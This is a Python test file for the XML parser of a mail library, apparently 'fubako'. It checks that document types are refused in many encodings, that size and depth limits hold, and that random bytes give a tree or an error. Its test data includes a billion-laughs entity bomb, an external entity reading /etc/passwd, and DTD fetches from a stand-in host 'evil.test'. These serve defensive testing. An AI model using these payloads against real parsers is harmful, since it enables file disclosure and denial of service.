"""XML of strangers. Leaves out what the values mean: test_aggregate.py, client/test_discover.py."""

import codecs
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fubako.client.discover import AutoconfigFault, parse_autoconfig
from fubako.message import aggregate, xml
from fubako.message.address import parse_address

LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    + "]><feedback>&l9;</feedback>"
)
OUTER = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><feedback>&x;</feedback>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><feedback/>'
DTD = '<!DOCTYPE feedback SYSTEM "http://evil.test/x.dtd"><feedback/>'
ATTRIBUTES = '<!DOCTYPE feedback [<!ATTLIST feedback a CDATA "x">]><feedback/>'


def encodings(text):
    head = '<?xml version="1.0" encoding="{}"?>'
    yield text.encode()
    yield codecs.BOM_UTF8 + text.encode()
    yield codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    yield codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    yield (head.format("utf-16") + text).encode("utf-16")
    yield (head.format("iso-8859-1") + text).encode("iso-8859-1")
    yield (head.format("windows-1252") + text).encode("cp1252")


@pytest.mark.parametrize("text", [LAUGHS, OUTER, PARAMETER, DTD, ATTRIBUTES])
def test_a_document_type_is_refused_in_every_encoding(text):
    for octets in encodings(text):
        with pytest.raises(xml.XmlError, match="document type"):
            xml.parse(octets)
        with pytest.raises(aggregate.ReportError, match="document type"):
            aggregate.read(octets)
        with pytest.raises(AutoconfigFault, match="document type"):
            parse_autoconfig(octets, parse_address("a@b.test"))


@pytest.mark.parametrize(
    ("octets", "why"),
    [
        (b"<a>" * 33, "deep"),
        (b"<a>" * 1_000_000, "deep"),
        (b"<a>" + b"<b/>" * 20 + b"</a>", "elements"),
        (b"<a " + b" ".join(b'x%d="1"' % at for at in range(33)) + b"/>", "attributes"),
        (b"<a>" + b"x" * 101 + b"</a>", "characters"),
        (b"<a>" + b"x<b/>" * 5 + b"&amp;" * 100 + b"</a>", "characters"),
        (b"<a>" + b"x" * 1000 + b"</a>" * 100_000, "octets"),
        (b"<a>&x;</a>", "no XML"),
        (b"<a", "no XML"),
        (b"", "no XML"),
        (b'<?xml version="1.0" encoding="nonsense"?><a/>', "no XML"),
        (b'<?xml version="1.0" encoding="utf-7"?><a/>', "no XML"),
        (b"<a>\xff</a>", "no XML"),
    ],
)
def test_limits(octets, why):
    limits = xml.Limits(
        octets=300_000 if why != "deep" else 4_000_000, elements=20 if why == "elements" else 1000, text=100
    )
    with pytest.raises(xml.XmlError, match=why):
        xml.parse(octets, limits)


def test_what_is_read():
    root = xml.parse(b'<f:a xmlns:f="urn:x"><b k="v">one &lt;<!-- no --><![CDATA[two]]></b><b>three</b></f:a>')
    assert (root.name, root.value("b"), [one.text for one in root.all("b")]) == ("a", "one <two", ["one <two", "three"])
    assert root.find("b").attributes == {"k": "v"} and root.find("b/c") is None and root.value("x/y") == ""


@given(st.binary(max_size=200))
def test_any_octets_give_a_tree_or_a_reason(octets):
    for made in (octets, b"<a>" + octets + b"</a>", b"\xff\xfe" + octets):
        with suppress(xml.XmlError):
            assert isinstance(xml.parse(made), xml.Element)
